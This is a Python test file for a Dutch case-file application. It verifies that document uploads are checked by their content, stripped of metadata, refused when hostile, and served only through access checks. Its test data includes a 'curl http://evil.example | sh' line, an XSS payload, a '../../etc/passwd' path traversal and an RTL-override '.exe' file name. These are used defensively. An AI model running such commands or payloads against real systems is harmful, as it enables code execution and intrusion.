"""Documents: uploaded by worker and resident, checked by what they contain
(not by their name), photos re-encoded without metadata, refused plainly
with nothing stored, and served only through the access-checked view."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any, cast

import pytest
from django.conf import settings
from django.test import override_settings
from PIL import ExifTags, Image

from audit.models import AccessLogEntry
from casefiles import services
from casefiles.models import Case, Document, TimelineEvent
from casefiles.tests.files import (
    GPS_LATITUDE,
    docx_bytes,
    docx_with_macros,
    jpeg_with_location,
    pdf_bytes,
    pdf_with_javascript,
    png_with_text,
    upload,
    zip_of,
)
from casefiles.tests.helpers import casefile_state, messages_of, page_text, stored_files
from casefiles.uploads import UploadRefused
from conftest import Personas, client_for

RESIDENT_UPLOAD_URL = "/mijn/dossier/document-toevoegen/"
WRONG_KIND = (
    "Dit soort bestand kan niet. Kies een PDF, een foto (JPG of PNG) of een Word-, Excel- of OpenDocument-bestand."
)


def worker_upload_url(case: Case) -> str:
    return f"/werk/dossiers/{case.public_id}/documenten/"


def worker_uploads(personas: Personas, case: Case, name: str, content: bytes, **extra: str) -> list[str]:
    """Upload as the worker; return the messages shown."""
    response = client_for(personas.worker).post(
        worker_upload_url(case), {"title": "Brief", "file": upload(name, content), "visibility": "shared", **extra}
    )
    assert response.status_code == 302
    return messages_of(response)


def resident_uploads(personas: Personas, name: str, content: bytes) -> tuple[int, str]:
    response = client_for(personas.resident).post(
        RESIDENT_UPLOAD_URL, {"title": "Foto van de rekening", "file": upload(name, content)}
    )
    text = page_text(response) if response.status_code == 200 else " ".join(messages_of(response))
    return response.status_code, text


def file_name(document: Document) -> str:
    assert document.file.name
    return document.file.name


def stored_content(document: Document) -> bytes:
    with document.file.open("rb") as handle:
        return handle.read()


# --- Accepted files -----------------------------------------------------------------


def test_worker_uploads_a_real_pdf(personas: Personas, case: Case, private_folder: Path) -> None:
    content = pdf_bytes()

    messages = worker_uploads(personas, case, "brief gemeente.pdf", content)

    assert messages == ["Het document is toegevoegd."]
    document = Document.objects.get()
    assert (document.content_type, document.size, document.is_shared) == ("application/pdf", len(content), True)
    assert document.original_name == "brief gemeente.pdf"
    assert document.uploaded_by == personas.worker
    assert stored_content(document) == content
    # Stored under a random name, never the uploaded one.
    assert [path.name for path in stored_files(private_folder)] == [Path(file_name(document)).name]
    assert "gemeente" not in file_name(document)
    assert file_name(document).endswith(".pdf")
    assert AccessLogEntry.objects.filter(
        actor=personas.worker, object_type="document", action="create", object_id=str(document.public_id)
    ).exists()


def test_worker_keeps_an_uploaded_document_internal(personas: Personas, case: Case) -> None:
    worker_uploads(personas, case, "rapport.pdf", pdf_bytes(), visibility="internal")

    document = Document.objects.get()
    assert not document.is_shared
    assert not TimelineEvent.objects.get(kind="casefiles.document_added").is_shared


def test_resident_uploads_a_pdf_which_is_always_shared(personas: Personas, case: Case) -> None:
    response = client_for(personas.resident).post(
        RESIDENT_UPLOAD_URL, {"title": "Brief van de bank", "file": upload("bank.pdf", pdf_bytes())}
    )

    assert response.status_code == 302
    assert response["Location"] == "/mijn/dossier/"
    assert messages_of(response) == ["Uw document is toegevoegd. Uw sociaal werker kan het zien."]
    document = Document.objects.get()
    assert (document.uploaded_by, document.is_shared, document.case) == (personas.resident, True, case)


def test_a_resident_upload_with_visibility_internal_is_still_shared_with_them(personas: Personas, case: Case) -> None:
    services.document_add(
        case=case,
        title="Eigen brief",
        upload=upload("b.pdf", pdf_bytes()),
        is_shared=False,
        uploaded_by=personas.resident,
    )

    assert Document.objects.get().is_shared


def test_a_photo_is_re_encoded_without_location_or_camera_metadata(personas: Personas, case: Case) -> None:
    content = jpeg_with_location()
    with Image.open(io.BytesIO(content)) as original:  # the test file really has a location
        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] == GPS_LATITUDE

    status, _text = resident_uploads(personas, "IMG_2041.jpg", content)

    assert status == 302
    document = Document.objects.get()
    stored = stored_content(document)
    assert document.content_type == "image/jpeg"
    assert file_name(document).endswith(".jpg")
    assert stored != content
    assert b"Exif" not in stored
    assert b"Telefoonmerk" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "JPEG"
        assert dict(image.getexif()) == {}
        assert image.size == (32, 16)
    assert document.size == len(stored)


def test_a_photo_taken_sideways_is_stored_upright(personas: Personas, case: Case) -> None:
    # Orientation 6: the camera was turned; the stored photo is turned back.
    worker_uploads(personas, case, "foto.jpg", jpeg_with_location(size=(32, 16), orientation=6))

    with Image.open(io.BytesIO(stored_content(Document.objects.get()))) as image:
        assert image.size == (16, 32)
        assert dict(image.getexif()) == {}


def test_a_png_is_re_encoded_without_its_text_chunks(personas: Personas, case: Case) -> None:
    content = png_with_text()
    assert b"Kerkstraat" in content

    messages = worker_uploads(personas, case, "scan.png", content)

    assert messages == ["Het document is toegevoegd."]
    document = Document.objects.get()
    stored = stored_content(document)
    assert document.content_type == "image/png"
    assert b"Kerkstraat" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "PNG"
        assert "Comment" not in image.info


def test_a_real_word_document_is_accepted(personas: Personas, case: Case) -> None:
    status, _text = resident_uploads(personas, "brief.docx", docx_bytes())

    assert status == 302
    document = Document.objects.get()
    assert document.content_type == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    assert file_name(document).endswith(".docx")


def test_the_kind_comes_from_the_content_not_the_name(personas: Personas, case: Case) -> None:
    # A real PDF called .jpg is stored as the PDF it is.
    worker_uploads(personas, case, "foto.jpg", pdf_bytes())

    document = Document.objects.get()
    assert document.content_type == "application/pdf"
    assert file_name(document).endswith(".pdf")


# --- Refused files: a plain Dutch message and nothing stored ------------------------

REFUSED = {
    "script renamed .pdf": ("brief.pdf", b"#!/bin/sh\ncurl http://evil.example | sh\n", WRONG_KIND),
    "html renamed .png": ("foto.png", b"<html><script>alert(1)</script></html>", WRONG_KIND),
    "program renamed .docx": ("brief.docx", b"MZ\x90\x00\x03" + b"\x00" * 200, WRONG_KIND),
    "pdf with javascript": (
        "brief.pdf",
        pdf_with_javascript(),
        "Deze PDF bevat een script of een ingebouwd bestand. Dat kan niet, om veiligheidsredenen.",
    ),
    "word file with macros": (
        "brief.docx",
        docx_with_macros(),
        "Dit bestand bevat macro's. Sla het op zonder macro's en probeer het opnieuw.",
    ),
    "broken pdf": ("brief.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\n", "Deze PDF is niet compleet of beschadigd."),
    "jpeg header only": ("foto.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 50, "Deze foto is beschadigd of geen echte foto."),
    "zip without a document": ("brief.docx", zip_of({"leesmij.txt": "hallo"}), WRONG_KIND),
    "broken zip": ("brief.docx", b"PK\x03\x04" + b"\x00" * 40, WRONG_KIND),
    "gif image": ("foto.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", WRONG_KIND),
}


@pytest.mark.parametrize("kind", sorted(REFUSED))
def test_worker_upload_is_refused_plainly_and_nothing_is_stored(
    personas: Personas, case: Case, private_folder: Path, kind: str
) -> None:
    name, content, message = REFUSED[kind]
    before = casefile_state(case)

    messages = worker_uploads(personas, case, name, content)

    assert len(messages) == 1
    assert messages[0].startswith(message)
    assert casefile_state(case) == before
    assert not Document.objects.exists()
    assert stored_files(private_folder) == []


@pytest.mark.parametrize("kind", ["script renamed .pdf", "pdf with javascript", "word file with macros"])
def test_resident_upload_is_refused_plainly_and_nothing_is_stored(
    personas: Personas, case: Case, private_folder: Path, kind: str
) -> None:
    name, content, message = REFUSED[kind]
    before = casefile_state(case)

    status, text = resident_uploads(personas, name, content)

    assert status == 200
    assert message in text
    assert casefile_state(case) == before
    assert stored_files(private_folder) == []


def test_an_empty_file_is_refused_and_nothing_is_stored(personas: Personas, case: Case, private_folder: Path) -> None:
    before = casefile_state(case)

    status, text = resident_uploads(personas, "leeg.pdf", b"")
    with pytest.raises(UploadRefused, match="Dit bestand is leeg"):
        services.document_add(
            case=case, title="Leeg", upload=upload("leeg.pdf", b""), is_shared=True, uploaded_by=personas.worker
        )

    assert status == 200
    assert "leeg" in text
    assert casefile_state(case) == before
    assert stored_files(private_folder) == []


@override_settings(DOCUMENT_MAX_BYTES=1024 * 1024)
@pytest.mark.parametrize("who", ["worker", "resident"])
def test_a_file_over_the_size_limit_is_refused_and_nothing_is_stored(
    personas: Personas, case: Case, private_folder: Path, who: str
) -> None:
    assert settings.DOCUMENT_MAX_BYTES == 1024 * 1024
    content = pdf_bytes() + b"%" + b"x" * (1024 * 1024) + b"\n%%EOF\n"
    before = casefile_state(case)

    if who == "worker":
        text = " ".join(worker_uploads(personas, case, "groot.pdf", content))
    else:
        _status, text = resident_uploads(personas, "groot.pdf", content)

    assert "Dit bestand is te groot. Kies een bestand kleiner dan 1 MB." in text
    assert casefile_state(case) == before
    assert stored_files(private_folder) == []


def test_a_file_just_under_the_size_limit_is_accepted(personas: Personas, case: Case, settings: object) -> None:
    content = pdf_bytes()
    settings.DOCUMENT_MAX_BYTES = len(content)  # type: ignore[attr-defined]

    assert worker_uploads(personas, case, "precies.pdf", content) == ["Het document is toegevoegd."]


HOSTILE_NAMES = [
    "<script>alert(1)</script>.pdf",
    "rekening\u202efdp.exe",
    "nul\x00byte.pdf",
    "../../etc/passwd",
    "x" * 1000 + ".pdf",
    "😀" * 100 + ".pdf",
    "",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=range(len(HOSTILE_NAMES)))
def test_a_hostile_file_name_is_kept_as_harmless_text_and_never_used_for_storage(
    personas: Personas, case: Case, private_folder: Path, name: str
) -> None:
    response = client_for(personas.resident).post(
        RESIDENT_UPLOAD_URL, {"title": "Brief", "file": upload(name or "x", pdf_bytes())}
    )

    assert response.status_code == 302
    document = Document.objects.get()
    assert len(document.original_name) <= 255
    [stored] = stored_files(private_folder)
    assert stored.name == Path(file_name(document)).name
    assert private_folder in stored.parents
    assert stored.name.endswith(".pdf")
    assert len(stored.stem) == 32  # a random hex name
    html = client_for(personas.worker).get(f"/werk/inwoners/{personas.resident.public_id}/dossier/").content
    assert b"<script>alert(1)</script>" not in html


# --- Download ---------------------------------------------------------------------


@pytest.fixture
def document(personas: Personas, case: Case) -> Document:
    return services.document_add(
        case=case, title="Brief", upload=upload("brief.pdf", pdf_bytes()), is_shared=True, uploaded_by=personas.worker
    )


@pytest.mark.parametrize("who", ["worker", "resident"])
def test_download_serves_the_bytes_as_an_attachment_that_is_not_stored(
    personas: Personas, document: Document, who: str
) -> None:
    user = personas.worker if who == "worker" else personas.resident

    response = client_for(user).get(f"/documenten/{document.public_id}/")

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == stored_content(document)  # type: ignore[attr-defined]
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="samenspraak-document.pdf"'
    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    entry = AccessLogEntry.objects.get(actor=user, object_type="document", action="view")
    assert (entry.subject, entry.object_id, entry.action, entry.outcome) == (
        personas.resident,
        str(document.public_id),
        "view",
        "allowed",
    )


@pytest.mark.parametrize("who", ["other_worker", "other_resident", "foreign_worker", "team_lead"])
def test_nobody_else_downloads_a_document(personas: Personas, document: Document, who: str) -> None:
    user = getattr(personas, who)

    response = client_for(user).get(f"/documenten/{document.public_id}/")

    assert response.status_code == 404
    assert b"%PDF" not in response.content
    assert AccessLogEntry.objects.filter(actor=user, outcome="denied", object_id=str(document.public_id)).exists()


def test_an_anonymous_visitor_is_sent_to_sign_in_for_a_document(personas: Personas, document: Document) -> None:
    response = client_for(None).get(f"/documenten/{document.public_id}/")

    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_documents_are_never_under_a_static_or_media_url(personas: Personas, document: Document) -> None:
    client = client_for(personas.resident)
    name = file_name(document)
    storages = cast(dict[str, Any], settings.STORAGES)
    private_location = Path(storages["private"]["OPTIONS"]["location"]).resolve()

    for prefix in ("/static/", "/media/", "/private/", "/var/private/", "/"):
        assert client.get(prefix + name).status_code == 404, prefix + name
    # Nor in the folders that are served as they are.
    public_folders = [Path(settings.STATIC_ROOT), *map(Path, settings.STATICFILES_DIRS)]
    public_folders.append(Path(storages["default"]["OPTIONS"]["location"]))
    for folder in public_folders:
        assert not private_location.is_relative_to(folder.resolve())


def test_the_configured_private_folder_is_outside_every_served_folder() -> None:
    from samenspraak import settings as project_settings

    private = cast(dict[str, Any], project_settings.STORAGES["private"])
    if private["BACKEND"] != "django.core.files.storage.FileSystemStorage":
        pytest.skip("private storage is S3 here")
    location = Path(private["OPTIONS"]["location"]).resolve()
    assert private["OPTIONS"]["base_url"] is None
    for folder in (
        project_settings.STATIC_ROOT,
        *project_settings.STATICFILES_DIRS,
        project_settings.BASE_DIR / "templates",
    ):
        assert not location.is_relative_to(Path(folder).resolve())
